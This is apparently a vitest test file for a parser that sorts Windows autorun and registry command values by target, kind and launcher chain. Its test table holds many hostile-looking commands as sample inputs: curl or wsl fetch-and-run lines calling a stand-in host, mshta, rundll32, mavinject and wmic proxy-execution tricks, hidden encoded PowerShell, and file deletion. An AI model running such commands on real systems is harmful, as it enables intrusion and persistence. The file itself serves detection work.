import { expect, test } from 'vitest';
import { readValueTarget } from '../../../src/core/facts/value-target.ts';

const encode = (code: string) => Buffer.from(code, 'utf16le').toString('base64');

/** data, kind, path, launchers; `-` for none. */
const SHAPES = String.raw`
""C:\Program Files\A B\c.exe"" /x | executable | c:\program files\a b\c.exe | -
"C:\Program Files\A B\c.exe"/x | executable | c:\program files\a b\c.exe | -
"cmd.exe /c C:\x\a.exe" | executable | c:\x\a.exe | cmd
%HOMEDRIVE%%HOMEPATH%\x.exe | executable | ?:\users\*\x.exe | -
%%HOMEDRIVE%%%%HOMEPATH%%\x.exe | executable | ?:\users\*\x.exe | -
\\.\C:\x\a.exe | executable | c:\x\a.exe | -
\\?\GLOBALROOT\Device\HarddiskVolume1\x\a.exe | executable | ?:\x\a.exe | -
\Device\HarddiskVolume3\Users\a\b.exe | executable | ?:\users\a\b.exe | -
\??\UNC\srv\share\a.exe | unc | \\srv\share\a.exe | -
\SystemRoot\System32\x.exe | executable | c:\windows\system32\x.exe | -
file:///C:/Users/a/b.exe | executable | c:\users\a\b.exe | -
shell:startup | url | - | -
ms-settings:display | url | - | -
search-ms:query=a&crumb=location:\\srv\share | url | - | -
userinit.exe,C:\x\a.exe | executable | c:\x\a.exe | -
C:\Windows\system32\userinit.exe, | executable | c:\windows\system32\userinit.exe | -
cmd /q /c del /q "C:\x\a.exe" | removal | - | cmd
cmd.exe /c "rd /s /q C:\x" | removal | - | cmd
cmd /c del C:\x\a.exe & rmdir C:\x | removal | - | cmd
cmd /c del C:\x\a.exe & C:\x\b.exe | executable | c:\x\b.exe | cmd
cmd /c del C:\x\a.exe && start C:\x\b.exe | executable | c:\x\b.exe | cmd>start
cmd /c del %X% | bare_name | del | cmd
cmd /c del.exe C:\x | bare_name | del.exe | cmd
cmd.exe /c "C:\x\b.bat > nul 2>&1" | script | c:\x\b.bat | cmd
cmd /c for %i in (1 2) do C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c "timeout 5 & start C:\x\a.exe" | executable | c:\x\a.exe | cmd>start
cmd /c curl -o %TEMP%\a.exe http://e.test/a && %TEMP%\a.exe | executable | ?:\users\*\appdata\local\temp\a.exe | cmd>curl
powershell Start-Process C:\x\a.exe | executable | c:\x\a.exe | powershell
powershell -c "Start-Process -FilePath 'C:\x y\a.exe' -ArgumentList '-q' -WindowStyle Hidden" | executable | c:\x y\a.exe | powershell
powershell -c "& {C:\x\y.ps1}" | script | c:\x\y.ps1 | powershell
powershell -command "iex (gc C:\x\a.txt -raw)" | inline_code | c:\x\a.txt | powershell
powershell -c "[Reflection.Assembly]::LoadFile('C:\x\a.dll')" | inline_code | c:\x\a.dll | powershell
powershell -c "(New-Object -ComObject WScript.Shell).Run('C:\x\a.exe')" | inline_code | c:\x\a.exe | powershell
powershell -c "Get-Date; 1" | inline_code | - | powershell
powershell -c "$x='C:\x\a.exe'; start $x" | inline_code | - | powershell
mshta vbscript:CreateObject("WScript.Shell").Run("C:\x\a.exe",0)(window.close) | inline_code | c:\x\a.exe | mshta
rundll32 advpack.dll,RegisterOCX "cmd.exe /c C:\x\a.exe" | executable | c:\x\a.exe | rundll32>cmd
rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\x\a.inf | document | c:\x\a.inf | rundll32
rundll32 shell32.dll,#44 C:\x\a.cpl | library | c:\x\a.cpl | rundll32
rundll32 scrobj.dll,GenerateTypeLib https://example.test/a.sct | url | - | rundll32
rundll32 desk.cpl,InstallScreenSaver C:\x\a.scr | executable | c:\x\a.scr | rundll32
rundll32.exe -sta {00000000-0000-0000-0000-000000000000} | bare_name | rundll32.exe | -
msiexec /x {11111111-1111-1111-1111-111111111111} | bare_name | msiexec | -
conhost.exe 0xffffffff -ForceV1 C:\x\a.exe | executable | c:\x\a.exe | conhost
wsl.exe -e bash -c "curl http://e.test | sh" | inline_code | - | wsl
wsl --exec /mnt/c/x/a.exe | executable | c:\x\a.exe | wsl
wsl -d Ubuntu -u root -e /root/x.sh | inline_code | - | wsl
bash -c "/mnt/c/x/a.exe" | executable | c:\x\a.exe | bash
wscript.exe /e:jscript /b C:\x\a.gif | script | c:\x\a.gif | wscript
wscript script:https://example.test/a.sct | url | - | wscript
explorer.exe /root,"C:\x\a.exe" | executable | c:\x\a.exe | explorer
explorer.exe /select,"C:\x\a.exe" | bare_name | explorer.exe | -
python3.11.exe C:\x\a.py | script | c:\x\a.py | python
python -m http.server | inline_code | - | python
AutoHotkeyU64.exe C:\x\a.ahk | script | c:\x\a.ahk | autohotkey
deno run -A C:\x\a.ts | script | c:\x\a.ts | deno
dotnet C:\x\a.dll | library | c:\x\a.dll | dotnet
odbcconf /a {REGSVR C:\x\a.dll} | library | c:\x\a.dll | odbcconf
mavinject 123 /INJECTRUNNING C:\x\a.dll | library | c:\x\a.dll | mavinject
mmc C:\x\a.msc | document | c:\x\a.msc | mmc
cmstp /s C:\x\a.inf | document | c:\x\a.inf | cmstp
wmic /node:host process call create 'C:\x\a.exe' | executable | c:\x\a.exe | wmic
wmic os get /format:"http://e.test/a.xsl" | url | - | wmic
ftp -s:C:\x\a.txt | document | c:\x\a.txt | ftp
ssh -o ProxyCommand=C:\x\a.exe . | executable | c:\x\a.exe | ssh
wt -d . cmd /c C:\x\a.exe | executable | c:\x\a.exe | wt>cmd
nircmd exec hide C:\x\a.bat | script | c:\x\a.bat | nircmd
SyncAppvPublishingServer.vbs "n; calc" | inline_code | - | syncappvpublishingserver
regedit /s C:\x\a.reg | document | c:\x\a.reg | regedit
`
  .trim()
  .split('\n')
  .map((line) => {
    const parts = line.split(' | ');
    // The data itself may hold bars.
    return [parts.slice(0, -3).join(' | '), ...parts.slice(-3)] as const;
  });

test.each(SHAPES)('%s', (data, kind, path, launchers) => {
  const read = readValueTarget(data);
  expect([read.kind, read.path ?? '-', read.launchers.join('>') || '-']).toEqual([kind, path, launchers]);
});

test('what is fetched and then started keeps its address and the shell that runs it', () => {
  expect(readValueTarget('cmd /c curl -o C:\\x\\a.exe http://e.test/a && C:\\x\\a.exe')).toMatchObject({
    url: 'http://e.test/a',
    interpreter: 'cmd',
  });
});

test('code in an encoded command is read for what it starts', () => {
  const data = `powershell -w hidden -enc ${encode('Start-Process C:\\Users\\Public\\a.exe -WindowStyle Hidden')}`;
  expect(readValueTarget(data)).toMatchObject({ kind: 'executable', path: 'c:\\users\\public\\a.exe' });
});

test.each([
  '(Get-Item HKCU:\\Software\\X).GetValue("Y")',
  "[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\X').GetValue('Y')",
  'reg query HKCU\\Software\\X /v Y',
  '(gp HKCU:\\Software\\X).Y',
])('a launcher that reads its code with %s names the value', (reading) => {
  expect(readValueTarget(`powershell -c iex (${reading})`)).toMatchObject({
    kind: 'registry_payload',
    registryPath: 'HKCU\\Software\\X\\Y',
  });
});
